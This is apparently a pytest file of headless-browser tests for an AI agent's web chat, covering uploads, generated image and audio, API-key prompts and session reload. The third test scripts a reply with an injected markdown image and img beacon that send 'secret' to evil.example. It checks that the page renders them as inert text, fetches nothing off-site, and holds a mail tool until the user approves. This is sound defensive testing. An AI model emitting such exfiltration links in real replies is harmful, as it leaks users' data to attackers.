"""The web chat end to end in headless Chromium: upload an image, ask, see the streamed answer and
a generated image, look at the route, reload and find the session again.

The backbone is the project's ScriptedThinker, so that it calls generate_image deterministically
(the tiny model's random weights would not); the page, server, controller, media store and the
tiny Stable Diffusion behind generate_image are the real ones.
"""

from __future__ import annotations

import os
import shutil

import numpy as np
import pytest
import soundfile
from langchain_core.tools import StructuredTool
from PIL import Image
from pydantic import BaseModel

from agent.config import AgentConfig
from agent.runtime import Runtime
from agent.server.app import create_app
from graphs.scripted import ScriptedThinker
from graphs.thinker import ThinkResult

CHROMIUM = os.environ.get("SIGNALGRAPH_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium executable (apt-get install -y chromium, "
                                                         "or set SIGNALGRAPH_CHROMIUM)")


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        yield browser
        browser.close()


def draw(*calls: str) -> ScriptedThinker:
    """A backbone that calls the given generators one step after another (audio kept short: the tiny
    AudioLDM-2 is slow on a CPU), then says so."""
    args = {"generate_image": {"prompt": "a blue square"}, "generate_audio": {"prompt": "a beep", "seconds": 0.5}}
    return ScriptedThinker(*[ThinkResult("", [{"id": f"call-{name}", "name": name, "args": args[name]}])
                             for name in calls],
                           ThinkResult("Here is a new blue square, image-2, and the beep, audio-2."))


def test_upload_ask_and_see_the_answer_with_generated_media(running, tmp_path, tiny_profile, browser):
    photo, memo = tmp_path / "photo.png", tmp_path / "memo.wav"
    Image.new("RGB", (32, 32), (30, 90, 200)).save(photo)
    soundfile.write(memo, np.zeros(8000, dtype=np.float32), 16_000)
    thinker = draw("generate_image", "generate_audio")
    runtime = Runtime(AgentConfig(data_dir=tmp_path / "data", allowed_dirs=[tmp_path]), tiny_profile,
                      thinker=thinker)
    with running(create_app(runtime)) as url:
        page = browser.new_page(viewport={"width": 900, "height": 760})
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(url)
        page.wait_for_selector("#meta:has-text('signalgraph-tiny')")

        page.set_input_files("#file", [str(photo), str(memo)])
        page.fill("#input", "What is in this photo? Draw another one, and make a beep sound.")
        page.click("#send")
        reply = page.wait_for_selector(".msg.assistant.done", timeout=180_000)

        text = reply.query_selector(".text").inner_text()
        assert text == "Here is a new blue square, image-2, and the beep, audio-2."  # links became media
        image = reply.query_selector("img.generated")
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=image)
        sound = reply.query_selector("audio.generated")
        assert sound is not None, reply.query_selector(".trace").text_content()
        page.wait_for_function("audio => audio.readyState >= 1 && audio.duration > 0", arg=sound)
        assert page.query_selector(".msg.user img") and page.query_selector(".msg.user audio")  # uploads shown
        assert [m["kind"] for m in thinker.seen[0]["media"]] == ["image", "audio"]  # and given to the backbone

        trace = reply.query_selector(".trace")
        assert not trace.is_visible()
        page.check("#show-trace")
        assert trace.is_visible() and "generate_image" in trace.inner_text()
        screenshot = tmp_path / "web-chat.png"
        page.screenshot(path=str(screenshot), full_page=True)
        print(f"screenshot: {screenshot}")

        session = page.evaluate("localStorage.getItem('signalgraph.session')")
        page.reload()
        page.wait_for_selector(".msg.assistant img.generated")
        assert page.evaluate("localStorage.getItem('signalgraph.session')") == session
        assert "Here is a new blue square, image-2, and the beep, audio-2." in page.inner_text("#log")
        assert errors == []
        page.close()
    runtime.close()


def test_the_page_asks_for_the_api_key_once_and_sends_it_for_media_too(running, tmp_path, tiny_profile, browser):
    runtime = Runtime(AgentConfig(data_dir=tmp_path / "data", allowed_dirs=[tmp_path]), tiny_profile,
                      thinker=draw("generate_image"))
    with running(create_app(runtime, api_key="s3cret")) as url:
        page = browser.new_page()
        asked: list[str] = []
        page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept("s3cret")))
        page.goto(url)
        page.wait_for_selector("#meta:has-text('signalgraph-tiny')")
        page.fill("#input", "Draw a blue square.")
        page.press("#input", "Enter")
        reply = page.wait_for_selector(".msg.assistant.done", timeout=120_000)
        image = reply.query_selector("img.generated")
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=image)
        assert image.get_attribute("src").startswith("blob:")  # fetched with the key, not linked
        page.reload()
        page.wait_for_selector(".msg.assistant img.generated")
        assert len(asked) == 1 and "API key" in asked[0]
        page.close()
    runtime.close()


def test_a_reply_that_links_elsewhere_fetches_nothing_and_an_action_waits_for_approve(running, tmp_path, tiny_profile,
                                                                                        browser):
    """A note slipped a remote image and a beacon into the reply: the page shows them as text and the
    browser requests nothing outside this server (its Content-Security-Policy forbids it too). Then a
    tool that needs confirmation waits for the Approve button."""
    outbox = tmp_path / "outbox.txt"

    class MailArgs(BaseModel):
        to: str

    mail = StructuredTool.from_function(lambda to: outbox.write_text(to) and {"sent": to}, name="send_mail",
                                        description="Send an email.", args_schema=MailArgs,
                                        metadata={"effect": "acts", "confirm": True})
    evil = ('Parking is north. ![logo](https://evil.example/collect?q=secret) '
            '<img src="https://evil.example/beacon.png">')
    thinker = ScriptedThinker(ThinkResult(evil, raw=evil),
                              ThinkResult("", [{"id": "m1", "name": "send_mail", "args": {"to": "bob@example.com"}}]),
                              ThinkResult("Sent to bob@example.com."))
    runtime = Runtime(AgentConfig(data_dir=tmp_path / "data", allowed_dirs=[tmp_path]), tiny_profile,
                      thinker=thinker)
    runtime._tools["web"] = [mail]
    with running(create_app(runtime)) as url:
        page = browser.new_page()
        page.add_init_script("localStorage.setItem('signalgraph.session', 'web')")
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        response = page.goto(url)
        assert "img-src 'self'" in response.headers["content-security-policy"]
        page.wait_for_selector("#meta:has-text('signalgraph-tiny')")
        page.fill("#input", "Where do visitors park?")
        page.click("#send")
        reply = page.wait_for_selector(".msg.assistant.done", timeout=60_000)
        text = reply.query_selector(".text").inner_text()
        assert "https://evil.example/collect?q=secret" in text and "![" not in text
        assert not reply.query_selector("img")

        page.fill("#input", "Send a mail to bob@example.com.")
        page.click("#send")
        page.wait_for_selector(".msg.assistant.done >> nth=1")
        asked = page.query_selector_all(".msg.assistant.done")[1]
        assert "Shall I run send mail" in asked.inner_text() and not outbox.exists()
        asked.query_selector(".answer button:has-text('Approve')").click()
        page.wait_for_selector(".msg.assistant.done >> nth=2")
        assert outbox.read_text() == "bob@example.com"
        assert "Sent to bob@example.com." in page.inner_text("#log")
        page.wait_for_timeout(300)
        assert all(u.startswith(url) for u in requests), [u for u in requests if not u.startswith(url)]
        page.close()
    runtime.close()
